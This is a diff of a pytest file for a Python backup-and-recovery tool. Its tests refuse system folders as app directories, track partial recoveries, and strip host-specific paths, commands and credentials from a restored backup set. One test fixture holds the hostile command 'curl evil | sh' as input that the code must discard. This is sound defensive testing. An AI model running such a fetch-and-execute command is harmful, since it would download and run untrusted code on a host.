@@ -14,7 +14,10 @@ from sppg_backup.ops.compose import Stack, find_file
 from sppg_backup.physical.in_container import recovered_to
 
 
-@pytest.mark.parametrize("folder", ["/", "/etc", "/usr/", "/var/lib", "relative/app", "/opt/../etc"])
+@pytest.mark.parametrize(
+    "folder",
+    ["/", "/etc", "/usr/", "/usr/local/bin", "/var/lib", "/root/.ssh", "/var/spool/cron", "rel/app", "/opt/../etc"],
+)
 def test_a_recorded_app_dir_that_is_a_system_folder_or_not_absolute_is_refused(folder: str) -> None:
     with pytest.raises(ConfigError, match="--app-dir"):
         recover.check_app_dir(Path(folder), folder)
@@ -26,23 +29,29 @@ def test_an_app_dir_with_files_is_not_a_new_host_unless_an_earlier_try_made_them
     (tmp_path / "app" / "left.txt").write_text("x")
     with pytest.raises(ConfigError, match="not a new host"):
         recover.check_app_dir(tmp_path / "app", None)
-    assert recover.check_app_dir(tmp_path / "app", None, rerun=True) == tmp_path / "app"
+    assert recover.check_app_dir(tmp_path / "app", None, earlier=True) == tmp_path / "app"
 
 
-def test_the_settings_file_says_whether_a_recovery_of_this_set_finished(tmp_path: Path) -> None:
-    path = tmp_path / "etc" / "config.toml"
-    assert recover.earlier_try(path, "set_1") is False
-    recover.write_config(path, {"app_dir": Path("/opt/erp"), "drill_checks": []}, "set_1")
-    assert recover.earlier_try(path, "set_1") is True
+def test_the_settings_file_says_how_far_a_recovery_of_this_set_into_this_folder_got(tmp_path: Path) -> None:
+    path, app = tmp_path / "etc" / "config.toml", Path("/opt/erp")
+    assert recover.earlier_try(path, "set_1", app) is None
+    recover.write_config(path, {"app_dir": app, "drill_checks": []}, "set_1", "started")
+    assert recover.earlier_try(path, "set_1", app) == recover.Earlier("started", {})
     assert path.stat().st_mode & 0o777 == 0o600
     with pytest.raises(ConfigError, match="exists"):
-        recover.earlier_try(path, "set_2")  # another set's recovery, or a file of the host's own
-    recover.write_config(path, {"app_dir": "/opt/erp"}, "set_1", done=True)
+        recover.earlier_try(path, "set_2", app)  # another set's recovery, or a file of the host's own
+    with pytest.raises(ConfigError, match="records another recovery"):
+        recover.earlier_try(path, "set_1", Path("/srv/other"))  # a rerun never empties another folder
+    recover.write_config(path, {"app_dir": app}, "set_1", "database", {"plan": "the set's dump d"})
+    assert recover.earlier_try(path, "set_1", app) == recover.Earlier("database", {"plan": "the set's dump d"})
+    recover.write_config(path, {"app_dir": app}, "set_1", "done")
     with pytest.raises(ConfigError, match="recovered onto this host already"):
-        recover.earlier_try(path, "set_1")
+        recover.earlier_try(path, "set_1", app)
     path.write_text('app_dir = "/opt/erp"\n')
     with pytest.raises(ConfigError, match="exists"):
-        recover.earlier_try(path, "set_1")
+        recover.earlier_try(path, "set_1", app)
+    with pytest.raises(ConfigError, match="not a file"):
+        recover.earlier_try(tmp_path, "set_1", app)
 
 
 def test_the_database_password_comes_from_the_env_file_for_its_user(tmp_path: Path) -> None:
@@ -78,13 +87,10 @@ def test_the_database_service_is_db_container_or_the_one_postgres_image(tmp_path
         Stack.read(tmp_path / "gone.yml")
 
 
-def test_the_compose_file_is_found_among_the_config_paths_or_in_app_dir(tmp_path: Path) -> None:
-    assert find_file(["/opt/erp/.env", "/opt/erp/docker-compose.prod.yml"], None) == Path(
-        "/opt/erp/docker-compose.prod.yml"
-    )
-    (tmp_path / "compose.yaml").write_text("services: {}\n")
-    assert find_file(["/opt/erp/.env"], tmp_path) == tmp_path / "compose.yaml"
-    assert find_file([], None) is None
+def test_the_compose_file_is_the_one_among_the_config_paths() -> None:
+    found = find_file(["/opt/erp/.env", "/opt/erp/docker-compose.prod.yml"])
+    assert found == Path("/opt/erp/docker-compose.prod.yml")
+    assert find_file(["/opt/erp/.env", "/opt/erp/nginx"]) is None
 
 
 def test_the_recovered_to_time_is_read_from_the_servers_log() -> None:
@@ -125,3 +131,36 @@ def test_with_another_app_dir_what_was_inside_the_old_one_is_inside_the_new_one(
     assert values["app_dir"] == "/srv/erp" and values["uploads_dir"] == "/srv/erp/uploads"
     assert values["config_paths"] == ["/srv/erp/docker-compose.prod.yml", "/etc/erp/extra.conf"]
     assert values["storage_url"] == "gs://dr/backups" and values["replica_urls"] == ["gs://other/backups"]
+
+
+def test_a_set_brings_no_host_paths_commands_or_credentials() -> None:
+    from sppg_backup.full.system import FullSet
+    from sppg_backup.settings import Settings
+
+    taken = {
+        "app_dir": "/opt/erp-sppg",
+        "scratch_dir": "/",  # cleaned by every run: never from storage
+        "state_dir": "/etc",
+        "pg_bin_dir": "/opt/erp-sppg/bin",
+        "drill_test_command": "curl evil | sh",
+        "gcp_service_account_file": "/old/key.json",
+        "health_url": "http://127.0.0.1:8080/health",
+    }
+    full = FullSet.model_validate(
+        {
+            "id": "s",
+            "created_at": datetime.now(UTC),
+            "finished_at": datetime.now(UTC),
+            "duration_seconds": 1,
+            "app_dir": "/opt/erp-sppg",
+            "images": [],
+            "parts": [],
+            "encryption": "age",
+            "taken_with": taken,
+        }
+    )
+    values = recover.host_values(full, Settings(), recover.RecoverRequest(storage_url="file:///s", identity_file="/k"))
+    assert values["health_url"] == taken["health_url"] and values["app_dir"] == "/opt/erp-sppg"
+    assert not {"scratch_dir", "state_dir", "pg_bin_dir", "drill_test_command", "gcp_service_account_file"} & set(
+        values
+    )
